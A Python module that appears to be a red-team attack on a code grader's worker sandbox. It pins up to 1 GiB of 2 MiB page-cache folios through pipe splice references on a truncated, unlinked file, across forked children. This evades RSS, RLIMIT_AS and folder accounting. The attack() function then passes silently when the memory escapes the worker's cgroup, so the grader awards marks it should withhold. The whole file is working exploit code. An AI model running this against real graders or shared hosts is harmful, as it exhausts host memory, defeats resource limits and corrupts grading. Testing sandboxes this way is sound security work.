import ctypes
import os
import select
import signal
import struct
import time

GIB = 1 << 30
HUGE = 2 << 20  # the page cache's largest folio (a PMD): a buffered write of 2 MiB at a 2 MiB offset makes one
PAGE = 4096
CAP = GIB  # here it stops
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
PARTS = 2  # children filling pipes at once
SECONDS = 8.5  # the red team's grader gives one test's calls 10 s
SLOTS = 16  # a new pipe's buffers (64 KiB): each is given one byte of a different folio
MAP_SHARED, MAP_PRIVATE, MAP_ANONYMOUS, MAP_FIXED, MAP_NORESERVE = 0x01, 0x02, 0x20, 0x10, 0x4000
_outcome = []  # (bytes held, what stopped it), once per process: every later call answers the same

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
_FAILED = ctypes.c_void_p(-1).value


def _pmd_mapped_kib():
    """FilePmdMapped + ShmemPmdMapped of this process in KiB (None where /proc/self is closed)."""
    try:
        with open("/proc/self/smaps_rollup") as handle:
            return sum(int(line.split()[1]) for line in handle
                       if line.startswith(("FilePmdMapped:", "ShmemPmdMapped:")))
    except OSError:
        return None


def _folios_of_2_mib(fd, size):
    """How many of the file's first `size` bytes' 2 MiB pieces are each one folio: the file mapped at a
    2 MiB-aligned address and one byte of each piece read, the kernel maps a whole 2 MiB folio with one
    PMD entry, which smaps_rollup counts (None where it cannot be read)."""
    before = _pmd_mapped_kib()
    if before is None:
        return None
    reserve = _libc.mmap(None, size + HUGE, 0, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0)
    if reserve in (None, _FAILED):
        return None
    base = (reserve + HUGE - 1) & ~(HUGE - 1)
    try:
        mapped = _libc.mmap(base, size, 1, MAP_SHARED | MAP_FIXED, fd, 0)  # PROT_READ, over the reservation
        if mapped in (None, _FAILED):
            return None
        for offset in range(0, size, HUGE):
            ctypes.c_char.from_address(base + offset).value
        after = _pmd_mapped_kib()
    finally:
        _libc.munmap(reserve, size + HUGE)
    return None if after is None else (after - before) // (HUGE // 1024)


def hold_file_folios(cap=CAP):
    """Pipes each given, by splice (else sendfile, which splices into a pipe too), one byte from each of
    16 folios of 2 MiB of a file in the worker's own folder, after which the file is truncated: the
    pipe's reference keeps each whole folio, in no process's RSS, outside RLIMIT_AS and, the file being
    empty again, outside every count of the folder. (bytes held, what stopped it)."""
    held, stopped, pipes, via = 0, "reached the cap", 0, "splice"
    path = f"folios-{os.getpid()}"
    fd = os.open(path, os.O_RDWR | os.O_CREAT | os.O_TRUNC, 0o600)
    os.unlink(path)  # nothing of it is left in the folder, whatever happens next
    block = b"\x5a" * HUGE
    try:
        while held < cap:
            try:
                reading, writing = os.pipe()
            except OSError as error:
                stopped = f"pipe: {error.strerror} after {pipes} pipes"
                break
            try:
                os.lseek(fd, 0, os.SEEK_SET)
                for _ in range(SLOTS):
                    os.write(fd, block)
                large = _folios_of_2_mib(fd, SLOTS * HUGE)
                given = 0
                for k in range(SLOTS):
                    try:
                        if via == "splice":
                            given += os.splice(fd, writing, 1, offset_src=k * HUGE)
                        else:
                            given += os.sendfile(writing, fd, k * HUGE, 1)
                    except OSError as error:
                        if via == "splice" and given == 0:
                            via = f"sendfile (splice: {error.strerror})"
                            given += os.sendfile(writing, fd, k * HUGE, 1)
                        else:
                            raise
            except OSError as error:
                os.close(reading)
                stopped = f"{via.split()[0]}: {error.strerror} after {pipes} pipes"
                break
            finally:
                os.close(writing)
                os.ftruncate(fd, 0)  # the folios leave the page cache; the pipe's references keep them
            pipes += 1
            if large is None or large < given:
                held += (large or 0) * HUGE + (given - (large or 0)) * PAGE
                stopped = (f"the file's pages are not 2 MiB folios ({large} of {given} pieces PMD-mapped; "
                           f"{os.statvfs('.').f_bsize}-byte blocks) after {pipes} pipes")
                break
            held += given * HUGE
            # the reading end stays open, so the pipe keeps the folios (its descriptor is never closed)
    finally:
        os.close(fd)
    return held, f"{stopped}; via {via}"


def hold_in_children(cap=CAP, parts=PARTS, seconds=SECONDS):
    """`hold_file_folios` of cap / parts in each of `parts` forked children at once; (bytes held at once,
    what stopped them). The children are killed once each has said what it held."""
    start, children, reader, writer = time.monotonic(), [], *os.pipe()
    held, why, heard = 0, [], 0
    try:
        for _ in range(parts):
            pid = os.fork()
            if pid == 0:
                os.close(reader)
                try:
                    got, stopped = hold_file_folios(cap // parts)
                except BaseException as error:  # noqa: BLE001 - the parent must hear from every child
                    got, stopped = 0, repr(error)
                text = stopped.encode()[:300]
                os.write(writer, struct.pack("<QH", got, len(text)) + text)
                while True:
                    time.sleep(60)
            children.append(pid)
        while heard < parts:
            left = start + seconds - time.monotonic()
            if left <= 0 or not select.select([reader], [], [], left)[0]:
                why.append(f"ran out of time with {heard} of {parts} children done")
                break
            got, size = struct.unpack("<QH", os.read(reader, 10))
            held += got
            why.append(os.read(reader, size).decode() if size else "")
            heard += 1
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
    return held, f"{'; '.join(dict.fromkeys(why))}; {time.monotonic() - start:.1f} s"


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Hold the memory once; if it could, outside a memory group of the worker's own, answer honestly (so
    the attack shows as full marks where it must lose them), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_in_children())
    held, stopped = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / GIB:.2f} GiB of file folios through pipes in {PARTS} children ({stopped}), "
                          f"but the kernel charges them to the worker's memory group {group}, which bounds them")
    if held < CAP:
        raise MemoryError(f"held only {held / GIB:.2f} GiB of file folios through pipes in {PARTS} children "
                          f"({stopped})")
    return None  # the function's own body runs on
